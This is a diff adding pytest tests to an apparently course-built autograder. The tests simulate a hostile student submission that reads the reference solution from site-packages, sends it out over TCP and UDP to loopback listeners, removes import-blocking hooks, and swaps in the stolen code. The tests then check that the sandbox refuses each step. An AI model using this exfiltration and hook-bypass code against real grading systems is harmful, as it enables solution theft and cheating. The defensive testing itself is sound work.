@@ -7,17 +7,22 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import socket
 import stat
 import subprocess
 import sys
+import threading
+import time
 import zipfile
 from pathlib import Path
 
 import pytest
+from processes import slot_uid_processes
 
 from grader.cli import main
 from grader.diagnoses import describe
 from grader.models import CheckResult, RunResult, SubmissionResult
+from grader.protections import PROTECTIONS
 from grader.report.gradescope import (
     GradescopeError,
     gradescope_results,
@@ -254,3 +259,303 @@ def test_an_installed_copy_without_pyproject_gets_one_from_its_metadata(tmp_path
     assert name == "pyproject.toml" and project["name"] == "nngrade"
     assert any(r.startswith("numpy") for r in project["dependencies"])
     assert not any(r.startswith("pytest") for r in project["dependencies"])
+
+
+# -- the bundle as Gradescope runs it: root, no bubblewrap, a hostile student ------------
+
+# Zeros of the right shape from every function: what this submission earns honestly.
+STUBS = '''
+
+def conv_output_size(n, f, pad=0, stride=1):
+    return 0
+
+
+def _size(n, f, pad, stride):
+    return (n + 2 * pad - f) // stride + 1
+
+
+def conv2d_forward(x, w, b, stride=1, pad=0):
+    return np.zeros((x.shape[0], _size(x.shape[1], w.shape[0], pad, stride),
+                     _size(x.shape[2], w.shape[1], pad, stride), w.shape[3]))
+
+
+def conv2d_backward(dy, x, w, b, stride=1, pad=0):
+    return np.zeros(np.shape(x)), np.zeros(np.shape(w)), np.zeros(np.shape(b))
+
+
+def maxpool_forward(x, size=2, stride=2):
+    return np.zeros((x.shape[0], (x.shape[1] - size) // stride + 1, (x.shape[2] - size) // stride + 1, x.shape[3]))
+
+
+def maxpool_backward(dy, x, size=2, stride=2):
+    return np.zeros(np.shape(x))
+
+
+def relu_forward(x):
+    return np.zeros(np.shape(x))
+
+
+def relu_backward(dy, x):
+    return np.zeros(np.shape(x))
+
+
+def linear_forward(x, w, b):
+    return np.zeros((np.shape(x)[0], np.shape(w)[1]))
+
+
+def linear_backward(dy, x, w, b):
+    return np.zeros(np.shape(x)), np.zeros(np.shape(w)), np.zeros(np.shape(b))
+
+
+def softmax_cross_entropy(z, labels):
+    return 0.0, np.zeros(np.shape(z))
+'''
+
+# At import: read the installed toolkit's solution and checks (where this interpreter's
+# site-packages is, or where the test says it is), send them out over TCP and UDP,
+# import a forbidden package with the hooks removed, and answer conv2d_forward with the
+# reference if it was read.
+ATTACK = '''"""The stubs, plus everything a student who knows Gradescope's container would try."""
+import glob
+import os
+import socket
+import sys
+import types
+
+import numpy as np
+
+SITES = {"@SITE@"}
+for prefix in (sys.prefix, os.path.dirname(os.path.dirname(os.path.abspath(sys.executable)))):
+    SITES.update(glob.glob(os.path.join(prefix, "lib", "python3*", "site-packages")))
+WANTED = ["reference/cnn.py", "reference/_cnn_checks.py", "assignments/cnn/__init__.py",
+          "assignments/cnn/checks.py", "assignments/cnn/checks_conv.py", "assignments/cnn/cases.py"]
+STOLEN = {}
+for site in sorted(SITES):
+    paths = {os.path.join(site, rel) for rel in WANTED} | set(glob.glob(os.path.join(site, "assignments", "cnn", "*.py")))
+    for path in sorted(paths):
+        try:
+            with open(path) as f:
+                STOLEN[path] = f.read()
+            print("LEAK read", path)
+        except OSError as exc:
+            print("read refused", path, type(exc).__name__)
+
+PAYLOAD = ("".join(f"== {p}\\n{t}" for p, t in STOLEN.items()) or "== nothing read").encode()
+try:
+    with socket.create_connection(("127.0.0.1", @TCP@), timeout=2) as conn:
+        conn.sendall(PAYLOAD)
+    print("LEAK sent over tcp")
+except OSError as exc:
+    print("tcp refused", type(exc).__name__)
+try:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.sendto(PAYLOAD[:60000], ("127.0.0.1", @UDP@))
+    print("LEAK sent over udp")
+except OSError as exc:
+    print("udp refused", type(exc).__name__)
+
+hooks = list(sys.meta_path)
+sys.meta_path[:] = [f for f in hooks if "Blocker" not in type(f).__name__ and "Toolkit" not in type(f).__name__]
+try:
+    import scipy.signal  # noqa: F401 - forbidden
+    print("LEAK imported scipy.signal")
+except Exception as exc:  # noqa: BLE001 - refused in whatever way
+    print("refused scipy.signal", type(exc).__name__)
+sys.meta_path[:] = hooks
+
+STOLEN_CONV = None
+reference = [t for p, t in STOLEN.items() if p.endswith("reference/cnn.py")]
+helpers = [t for p, t in STOLEN.items() if p.endswith("reference/_cnn_checks.py")]
+if reference and helpers:
+    checks = types.ModuleType("reference._cnn_checks")
+    exec(helpers[0], checks.__dict__)
+    sys.modules.setdefault("reference", types.ModuleType("reference"))
+    sys.modules["reference._cnn_checks"] = checks
+    solution = {}
+    exec(reference[0], solution)
+    STOLEN_CONV = solution["conv2d_forward"]
+''' + STUBS + '''
+
+if STOLEN_CONV is not None:
+    conv2d_forward = STOLEN_CONV  # noqa: F811 - the solution, if it could be read
+'''
+
+# The control: the same file run directly by the installed interpreter, as root and
+# unconfined, proves the attack works where nothing stops it.
+CONTROL = '''import importlib.util, sys
+import numpy as np
+from reference.cnn import conv2d_forward as solution
+spec = importlib.util.spec_from_file_location("hostile", sys.argv[1])
+hostile = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(hostile)
+rng = np.random.default_rng(0)
+x, w, b = rng.standard_normal((2, 5, 5, 3)), rng.standard_normal((3, 3, 3, 4)), rng.standard_normal(4)
+print("CONV", np.allclose(hostile.conv2d_forward(x, w, b, 1, 1), solution(x, w, b, 1, 1)))
+'''
+
+
+class _Listener:
+    """A TCP and a UDP socket on loopback that keep whatever reaches them."""
+
+    def __init__(self):
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.tcp.settimeout(0.1)
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", 0))
+        self.udp.settimeout(0.1)
+        self.received: list[tuple[str, bytes]] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._watch, daemon=True)
+        self._thread.start()
+
+    def _watch(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.tcp.accept()
+                conn.settimeout(2)
+                with conn:
+                    data = b"".join(iter(lambda: conn.recv(65536), b""))
+                self.received.append(("tcp", data))
+            except OSError:
+                pass
+            try:
+                self.received.append(("udp", self.udp.recvfrom(65536)[0]))
+            except OSError:
+                pass
+
+    def ports(self) -> dict[str, str]:
+        return {"@TCP@": str(self.tcp.getsockname()[1]), "@UDP@": str(self.udp.getsockname()[1])}
+
+    def close(self) -> list[tuple[str, bytes]]:
+        time.sleep(0.3)  # a datagram in flight
+        self._stop.set()
+        self._thread.join()
+        self.tcp.close()
+        self.udp.close()
+        return self.received
+
+
+def _fill(template: str, values: dict[str, str]) -> str:
+    for key, value in values.items():
+        template = template.replace(key, value)
+    return template
+
+
+@pytest.fixture(scope="module")
+def gradescope_container(bundle, tmp_path_factory):
+    """setup.sh and run_autograder as Gradescope runs them: as root, with an interpreter
+    only root can read (this one, under /root), no bubblewrap (NNGRADE_SANDBOX=none),
+    from the unpacked source folder (its `grader` folder would come first on Python's
+    path if the scripts let the working directory in); once on the stubs, once on the
+    same stubs with the attacks."""
+    tmp = tmp_path_factory.mktemp("container")
+    running_before = set(slot_uid_processes())
+    root = tmp / "autograder"
+    root.mkdir()
+    source = unpack(bundle, root / "source")
+    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")}
+    env.update(NNGRADE_AUTOGRADER=str(root), NNGRADE_SKIP_APT="1", NNGRADE_PYTHON3=sys.executable)
+    started = time.monotonic()
+    setup = subprocess.run(["bash", str(source / "setup.sh")], cwd=source, env=env, capture_output=True, text=True,
+                           timeout=300, check=False)
+    assert setup.returncode == 0, setup.stdout[-3000:] + setup.stderr[-3000:]
+    python = root / "venv" / "bin" / "python"
+    site = Path(subprocess.run([str(python), "-I", "-c", "import grader, os; print(os.path.dirname("
+                                "os.path.dirname(os.path.realpath(grader.__file__))))"],
+                               cwd=tmp, capture_output=True, text=True, check=True).stdout.strip())
+    setup_seconds = time.monotonic() - started
+
+    listener = _Listener()
+    values = {"@SITE@": str(site), **listener.ports()}
+    (root / "submission").mkdir()
+    (root / "submission" / "cnn_layers.py").write_text(_fill(ATTACK, values))
+    (tmp / "stubs").mkdir()
+    (tmp / "stubs" / "cnn_layers.py").write_text("import numpy as np\n" + STUBS)
+
+    control_listener = _Listener()
+    control_file = tmp / "control" / "cnn_layers.py"
+    control_file.parent.mkdir()
+    control_file.write_text(_fill(ATTACK, {"@SITE@": str(site), **control_listener.ports()}))
+    control = subprocess.run([str(python), "-I", "-c", CONTROL, str(control_file)], cwd=tmp, capture_output=True,
+                             text=True, timeout=120, check=False)
+    control_received = control_listener.close()
+
+    def run_autograder(**extra):
+        return subprocess.run([str(source / "run_autograder")], cwd=source, capture_output=True, text=True,
+                              env={**env, "NNGRADE_SANDBOX": "none", **extra}, timeout=300, check=False)
+
+    started = time.monotonic()
+    try:
+        stubs = run_autograder(NNGRADE_SUBMISSION=str(tmp / "stubs"), NNGRADE_RESULTS=str(tmp / "stubs.json"))
+        hostile = run_autograder(NNGRADE_REPORTS=str(tmp / "reports"))
+    finally:
+        received = listener.close()
+    return {"root": root, "site": site, "setup": setup, "setup_seconds": setup_seconds, "stubs": stubs,
+            "hostile": hostile, "received": received, "control": control, "control_received": control_received,
+            "reports": tmp / "reports", "stubs_results": tmp / "stubs.json",
+            "grading_seconds": time.monotonic() - started,
+            # What a slot's uid runs after the run: new since it started and not another
+            # checkout's worker host (another session's tests may be running on this machine).
+            "left": {pid: cmd for pid, cmd in slot_uid_processes().items() if pid not in running_before
+                     and not ("grader.worker.zygote" in cmd and str(site) not in cmd)}}
+
+
+def _results(container, which: str) -> dict:
+    proc = container[which]
+    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
+    path = container["stubs_results"] if which == "stubs" else container["root"] / "results" / "results.json"
+    return json.loads(path.read_text())
+
+
+def test_the_attack_works_where_nothing_stops_it(gradescope_container):
+    control = gradescope_container["control"]
+    assert "CONV True" in control.stdout, control.stdout[-3000:] + control.stderr[-3000:]
+    assert "LEAK read" in control.stdout and "LEAK sent over tcp" in control.stdout
+    received = gradescope_container["control_received"]
+    assert {kind for kind, _ in received} == {"tcp", "udp"}
+    assert any(b"def conv2d_forward" in data for _, data in received)
+
+
+def test_setup_installs_the_toolkit_where_only_root_can_read_it(gradescope_container):
+    site, root = gradescope_container["site"], gradescope_container["root"]
+    assert (root / "venv") in site.parents, site  # the installed copy, not the unpacked source
+    for package in ("grader", "reference", "assignments"):
+        for path in [site / package, *(site / package).rglob("*")]:
+            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, f"{path} is {oct(path.stat().st_mode)}"
+
+
+def test_results_are_written_in_gradescopes_format(gradescope_container):
+    for which in ("stubs", "hostile"):
+        assert_gradescope_format(_results(gradescope_container, which))
+
+
+def test_reading_the_solution_earned_nothing(gradescope_container):
+    stubs, hostile = _results(gradescope_container, "stubs"), _results(gradescope_container, "hostile")
+    assert hostile["score"] == stubs["score"]
+    assert [(t["name"], t["score"]) for t in hostile["tests"]] == [(t["name"], t["score"]) for t in stubs["tests"]]
+
+
+def test_nothing_reached_the_listeners(gradescope_container):
+    assert gradescope_container["received"] == []
+
+
+def test_the_hostile_student_tried_and_was_refused_everything(gradescope_container):
+    _results(gradescope_container, "hostile")
+    run = json.loads((gradescope_container["reports"] / "results.json").read_text())
+    [sub] = run["submissions"]
+    assert "LEAK" not in sub["output"], sub["output"][-3000:]
+    assert "read refused" in sub["output"] and "tcp refused" in sub["output"] and "udp refused" in sub["output"]
+    assert "scipy.signal" in sub["forbidden_imports"]
+
+
+def test_every_protection_held_but_namespaces(gradescope_container):
+    _results(gradescope_container, "hostile")
+    run = json.loads((gradescope_container["reports"] / "results.json").read_text())
+    assert run["sandbox"] == "none"
+    assert [p["name"] for p in run["protections"] if not p["held"]] == ["own_namespace"], run["protections"]
+    said = [line for line in gradescope_container["hostile"].stderr.splitlines() if line.startswith("NOT held")]
+    assert said == [f"NOT held in this run: {PROTECTIONS['own_namespace']}"], said
+
+
+def test_no_process_of_a_slot_uid_is_left(gradescope_container):
+    assert gradescope_container["left"] == {}
